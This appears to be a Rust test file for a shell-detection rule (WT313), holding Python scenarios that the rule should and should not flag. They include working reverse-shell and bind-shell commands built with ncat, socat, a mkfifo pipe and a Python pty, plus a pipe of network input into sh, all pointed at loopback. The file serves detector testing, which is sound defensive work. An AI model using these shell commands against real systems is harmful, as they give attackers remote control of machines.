//! WT313: shells that others connect with the network.

use super::{Scene, fires, quiet};

/// A listener on the loopback interface; `family(pid)` are a process and its descendants.
macro_rules! relay {
    ($script:literal) => {
        concat!(
            r#"
import subprocess
listener = S.socket(); listener.bind(('127.0.0.1', 0)); listener.listen()
port = str(listener.getsockname()[1])
def family(pid):
    time.sleep(0.8); pids = [pid]
    for one in pids:
        try: pids += [int(c) for c in open(f'/proc/{one}/task/{one}/children').read().split()]
        except FileNotFoundError: pass
    return pids
def start(command, **more):
    return subprocess.Popen(command, shell=isinstance(command, str), **more).pid
NULL = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"#,
            $script
        )
    };
}

pub(super) const SCENES: &[Scene] = &[
    fires(
"WT313",
"ncat --exec",
&[("WT313", "medium")], relay!(r#"
pid = start(['ncat', '--exec', '/bin/sh', '127.0.0.1', port], **NULL)
accepted = listener.accept()
ready(*family(pid))
rest()
"#))
    .needs(&["ncat"]),
    fires(
"WT313",
"socat EXEC",
&[("WT313", "medium")], relay!(r#"
pid = start(['socat', f'TCP:127.0.0.1:{port}', 'EXEC:/bin/sh'], **NULL)
accepted = listener.accept()
ready(*family(pid))
rest()
"#))
    .needs(&["socat"]),
    fires(
"WT313",
"socat EXEC with a terminal",
&[("WT313", "medium")], relay!(r#"
pid = start(['socat', f'TCP:127.0.0.1:{port}', 'EXEC:bash -i,pty,stderr,setsid,ctty'], **NULL)
accepted = listener.accept()
ready(*family(pid))
rest()
"#))
    .needs(&["socat", "bash"]),
    fires(
"WT313",
"a shell that is bound to a port",
&[("WT313", "medium")], relay!(r#"
listener.close()
pid = start(['socat', f'TCP-LISTEN:{port},bind=127.0.0.1,fork', 'EXEC:/bin/sh,pipes'], **NULL)
for _ in range(100):
    try: client = S.create_connection(('127.0.0.1', int(port))); break
    except OSError: time.sleep(0.05)
ready(*family(pid))
rest()
"#))
    .needs(&["socat"]),
    fires(
"WT313",
"a FIFO, cat and ncat",
&[("WT313", "medium")], relay!(r#"
pid = start(f'mkfifo @DIR@/f; cat @DIR@/f | sh -i 2>&1 | ncat 127.0.0.1 {port} > @DIR@/f; true', **NULL)
accepted = listener.accept()
ready(*family(pid))
rest()
"#))
    .needs(&["ncat"]),
    fires(
"WT313",
"a program that spawns a terminal",
&[("WT313", "medium")], relay!(r#"
SPAWNS = f'''
import os, pty, select, socket
s = socket.create_connection(("127.0.0.1", {port}))
pid, fd = pty.fork()
if pid == 0: os.execvp("sh", ["sh"])
while True:
    for ready in select.select([s, fd], [], [])[0]:
        if ready is s: os.write(fd, s.recv(100))
        else: s.send(os.read(fd, 100))
'''
pid = start(['python3', '-c', SPAWNS], **NULL)
accepted = listener.accept()
ready(*family(pid))
rest()
"#)),
    quiet(
"WT313",
"tmux", relay!(r#"
subprocess.run(['tmux', '-S', '@DIR@/tmux', '-f', '/dev/null', 'new-session', '-d', 'sh'], check=True,
    **NULL)
server = int(subprocess.run(['tmux', '-S', '@DIR@/tmux', 'display', '-p', '#{pid}'],
    capture_output=True, check=True).stdout)
if os.fork() == 0:
    quiet(); os.setsid()
    while os.getppid() != 1: time.sleep(0.1)
    os.kill(server, signal.SIGKILL); os._exit(0)
ready(*family(server))
rest()
"#))
    .needs(&["tmux"]),
    quiet(
"WT313",
"script", relay!(r#"
pid = start(['script', '-q', '-c', 'sh', '/dev/null'], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL)
ready(*family(pid))
rest()
"#))
    .needs(&["script"]),
    quiet(
"WT313",
"a service that runs a command through a shell", relay!(r#"
RUNS = f'''
import socket, subprocess, time
s = socket.create_connection(("127.0.0.1", {port}))
child = subprocess.Popen("sleep 600; true", shell=True, stdin=-1, stdout=-1, stderr=-1)
time.sleep(600)
'''
pid = start(['python3', '-c', RUNS], **NULL)
accepted = listener.accept()
ready(*family(pid))
rest()
"#)),
    quiet(
"WT313",
"a script that is downloaded and run", relay!(r#"
pid = start(f'ncat 127.0.0.1 {port} | sh > @DIR@/out; true', **NULL)
accepted = listener.accept()
ready(*family(pid))
rest()
"#))
    .needs(&["ncat"]),
    quiet(
"WT313",
"a login over ssh", relay!(r#"
os.mkdir('@DIR@/keys'); os.makedirs('/run/sshd', exist_ok=True)
for name in ('host', 'user'):
    subprocess.run(['ssh-keygen', '-q', '-t', 'ed25519', '-N', '', '-f', f'@DIR@/keys/{name}'], check=True)
os.rename('@DIR@/keys/user.pub', '@DIR@/keys/authorized')
listener.close()
sshd = subprocess.Popen(['/usr/sbin/sshd', '-D', '-f', '/dev/null', '-o', 'ListenAddress=127.0.0.1',
    '-o', f'Port={port}', '-o', 'HostKey=@DIR@/keys/host', '-o', 'StrictModes=no', '-o', 'PidFile=none',
    '-o', 'AuthorizedKeysFile=@DIR@/keys/authorized', '-o', 'PermitRootLogin=yes'],
    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
for _ in range(100):
    try: S.create_connection(('127.0.0.1', int(port))).close(); break
    except OSError: time.sleep(0.05)
ssh = ['ssh', '-q', '-i', '@DIR@/keys/user', '-p', port, '-o', 'StrictHostKeyChecking=no',
    '-o', 'UserKnownHostsFile=/dev/null', '-o', 'BatchMode=yes', '127.0.0.1']
kept = [subprocess.Popen(ssh[:1] + more + ssh[1:] + last, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
    stderr=subprocess.DEVNULL) for more, last in (([], ['sh']), (['-tt'], []))]
time.sleep(2)
ready(*family(sshd.pid))
rest()
"#))
    .needs(&["/usr/sbin/sshd", "ssh", "ssh-keygen"]),
];
